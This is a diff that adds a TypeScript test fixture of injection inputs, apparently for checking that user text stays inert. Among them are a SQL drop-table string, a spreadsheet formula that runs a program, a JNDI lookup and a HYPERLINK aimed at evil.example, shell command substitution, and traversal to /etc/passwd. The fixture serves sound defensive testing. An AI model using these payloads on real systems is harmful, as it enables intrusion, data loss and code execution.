@@ -1,0 +1,30 @@
+// What would be more than text in a database, a spreadsheet, a template, a log, a shell or JSON.
+import type { TextCase } from './case.ts'
+
+export const injected: readonly TextCase[] = [
+  { title: 'SQL that drops a table', typed: "x'); drop table submissions; --" },
+  { title: 'SQL that is always true', typed: "' or '1'='1" },
+  { title: 'SQL marks alone', typed: '\'"`;--/*%_\\' },
+  { title: 'SQL parameters', typed: '?1 :name @name $name' },
+  { title: 'a formula that links', typed: '=HYPERLINK("https://evil.example","klik")' },
+  { title: 'a formula that runs a program', typed: "=cmd|' /C calc'!A0" },
+  { title: 'a formula that begins with plus', typed: '+1+1' },
+  { title: 'a formula that begins with minus', typed: '-2+3' },
+  { title: 'a formula that begins with at', typed: '@SUM(1)' },
+  { title: 'a formula behind a tab', typed: '\t=1+1', line: '=1+1', lines: '=1+1' },
+  { title: 'a formula behind a line end', typed: '\r\n=1+1', line: '=1+1', lines: '=1+1' },
+  { title: 'a formula of full width', typed: '＝1+1' },
+  { title: 'a cell that ends itself', typed: '","=1+1","' },
+  { title: 'JSON that goes on', typed: '","level":4,"x":"' },
+  { title: 'JSON of its own', typed: '{"level":4,"evidence":"x"}' },
+  { title: 'JSON escapes', typed: '\\u003cscript\\u003e \\" \\\\ \\' },
+  { title: 'a name every object knows', typed: '__proto__' },
+  { title: 'an expression of a template', typed: '{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7} *{7*7}' },
+  { title: 'a look-up of a log', typed: '\u0024{jndi:ldap://evil.example/x}' },
+  { title: 'formats', typed: '%s %n %x %d %1$s' },
+  { title: 'a program in a shell', typed: '$(id) `id` ; id | id && id' },
+  { title: 'a way up the folders', typed: '../../../../etc/passwd' },
+  { title: 'percent-encoding that must stay', typed: '%3Cscript%3E %00 %0d%0a + %2B' },
+  { title: 'the word null', typed: 'null', isName: true },
+  { title: 'the words of an object', typed: '[object Object]' },
+]
